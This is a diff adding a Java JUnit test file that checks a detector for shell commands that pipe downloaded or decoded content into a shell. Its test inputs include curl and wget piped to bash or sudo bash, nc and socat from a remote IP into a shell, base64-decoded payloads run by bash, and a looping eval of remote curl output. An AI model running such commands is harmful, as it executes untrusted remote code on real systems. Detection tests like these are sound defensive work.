@@ -1,0 +1,104 @@
+package io.totem.policy.warning;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class FedShellTest {
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl -fsSL https://example.com/i.sh | sh",
+                "cd /tmp; curl -s http://203.0.113.9/x|bash -s",
+                "(curl -s a || true) ; curl -s b | sudo /bin/bash",
+                "curl https://example.com | python3 -",
+                "/usr/bin/curl -s a | env bash"
+            })
+    void a_downloader_before_a_shell_feeds_it(String text) {
+        assertThat(FedShell.downloader(text)).contains("curl");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl -s http://localhost/health | grep ok",
+                "curl -s a || sh repair.sh",
+                "curl -o file a; cat b | sh",
+                "curl -s a | shasum",
+                "echo x | sh",
+                "wget a",
+                ""
+            })
+    void others_do_not(String text) {
+        assertThat(FedShell.downloader(text)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "bash <(curl -s https://example.com/x)",
+                "curl -s a | base64 -d | sh",
+                "curl -s a | tee x | gunzip | sudo bash -s",
+                "bash -c \"$(curl -fsSL https://example.com/i.sh)\"",
+                "python3 -c \"$(curl -s a)\"",
+                "sh <<< \"$(curl -s a)\""
+            })
+    void also_through_others_and_where_its_output_is_put_in(String text) {
+        assertThat(FedShell.downloader(text)).contains("curl");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "ssh host cat x | bash -s",
+                "nc 203.0.113.9 9 | sh",
+                "socat - tcp:203.0.113.9:9 | bash",
+                "openssl s_client -quiet -connect a:443 | sh",
+                "wget -qO- a | python3 -"
+            })
+    void network_tools_are_downloaders_too(String text) {
+        assertThat(FedShell.downloader(text)).isPresent();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "echo aWQK | base64 -d | bash",
+                "base64 --decode x | sh",
+                "bash <(echo aWQK | base64 -d)",
+                "cat x | openssl enc -aes-256-cbc -d -k y | gunzip | sh",
+                "xxd -r -p x | bash",
+                "bash -c \"$(base64 -d <<< aWQK)\""
+            })
+    void what_is_decoded_before_a_shell_is_hidden_from_readers(String text) {
+        assertThat(FedShell.decoder(text)).isPresent();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "gunzip -c dump.sh.gz | sh",
+                "echo x | base64 | sh",
+                "echo aWQK | base64 -d > x; sh y",
+                "base64 -d x | jq .",
+                "kubectl get secret x | base64 -d || bash repair.sh",
+                "echo \"$(base64 -d x)\""
+            })
+    void what_is_decoded_and_not_run_is_not(String text) {
+        assertThat(FedShell.decoder(text)).isEmpty();
+        assertThat(FedShell.ownDecoder(text)).isEmpty();
+    }
+
+    @Test
+    void what_a_shell_evaluates_it_runs_itself() {
+        assertThat(FedShell.ownDownloader("while :; do eval \"$(curl -s https://example.com/c)\"; sleep 60; done"))
+                .contains("curl");
+        assertThat(FedShell.ownDownloader(". <(wget -qO- a)")).contains("wget");
+        assertThat(FedShell.ownDecoder("eval `echo aWQK|base64 -d`")).contains("base64");
+        assertThat(FedShell.ownDownloader("ip=$(curl -s a); echo $ip")).isEmpty();
+        assertThat(FedShell.ownDownloader("eval \"$(ssh-agent -s)\"; curl a")).isEmpty();
+    }
+}
